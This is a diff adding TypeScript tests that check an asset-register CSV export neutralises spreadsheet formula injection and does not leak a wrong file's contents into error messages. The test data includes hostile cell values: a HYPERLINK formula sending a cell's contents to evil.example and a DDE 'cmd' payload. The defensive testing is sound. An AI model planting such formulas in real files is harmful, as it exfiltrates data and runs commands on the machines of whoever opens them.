@@ -1,6 +1,8 @@
+import { execFile } from 'node:child_process';
 import { mkdtemp, readFile, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join, resolve } from 'node:path';
+import { promisify } from 'node:util';
 import { describe, expect, it } from 'vitest';
 import { parseCsvTable } from './cells.ts';
 import { parseMapping } from './columns.ts';
@@ -267,5 +269,58 @@ describe('exporting', () => {
     expect((await readFile(join(dir, 'assets.csv'), 'utf8')).split('\n')[0]).toBe(
       'Asset Tag,Serial,Model,Kind,MAC Addresses,Hostname,Assignee,Location,Purchase Date,Warranty End,End of Support,Status,Last Seen,Disposal Date,Disposal Company,Disposal Certificate,WEEE Reference',
     );
+  });
+
+  it('formula cells typed into a register come out as text in the CSV export (read by Python’s csv module)', async () => {
+    const dir = await mkdtemp(join(tmpdir(), 'register-formula-'));
+    const hostile = [
+      '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+      '@SUM(1+1)',
+      '+cmd|"/c calc"!A0',
+      '-2+3',
+      '\uff1d1+1',
+    ];
+    const src = join(dir, 'in.csv');
+    await writeFile(
+      src,
+      [
+        HEAD,
+        ...hostile.map(
+          (h, i) =>
+            `A-${i},S-${i},"${h.replace(/"/g, '""')}",laptop,,"${h.replace(/"/g, '""')}",,"${h.replace(/"/g, '""')}",,,,in-use,,,,,`,
+        ),
+      ].join('\n'),
+    );
+    const read = await readRegisterFile(src, 'assets');
+    expect(read.problems).toEqual([]);
+    expect(read.records.map((r) => r.model)).toEqual(hostile);
+    const out = join(dir, 'out.csv');
+    await writeTable(out, 'assets', read.records);
+    // An independent reader: every cell a spreadsheet would evaluate is shown as text (a leading ').
+    const { stdout } = await promisify(execFile)('python3', [
+      '-c',
+      'import csv,json,sys; print(json.dumps(list(csv.reader(open(sys.argv[1], newline="")))))',
+      out,
+    ]);
+    const rows = JSON.parse(stdout) as string[][];
+    const cells = rows.slice(1).flatMap((r) => [r[2], r[5], r[7]]);
+    expect(cells).toHaveLength(hostile.length * 3);
+    for (const c of cells) expect(c?.startsWith("'"), c).toBe(true);
+    // And our own import undoes exactly that apostrophe: the register is unchanged by the round trip.
+    expect((await readRegisterFile(out, 'assets')).records).toEqual(read.records);
+  });
+
+  it('a register path naming a file that is not a register: no line of it in any problem or warning', async () => {
+    const dir = await mkdtemp(join(tmpdir(), 'register-wrong-'));
+    const file = join(dir, 'passwords.csv');
+    await writeFile(file, 'hunter2-not-a-register,admin:s3cret-value\nsecond,line-of-it\n');
+    for (const name of ['assets', 'software', 'licences', 'installs'] as const) {
+      const r = await readRegisterFile(file, name);
+      expect(r.records).toEqual([]);
+      expect(r.problems.length).toBeGreaterThan(0);
+      const text = JSON.stringify([r.problems.map(formatRegisterProblem), r.warnings]);
+      expect(text).toMatch(/does not look like the \w+ register \(its content is not shown\)/);
+      for (const secret of ['hunter2', 's3cret', 'line-of-it']) expect(text).not.toContain(secret);
+    }
   });
 });
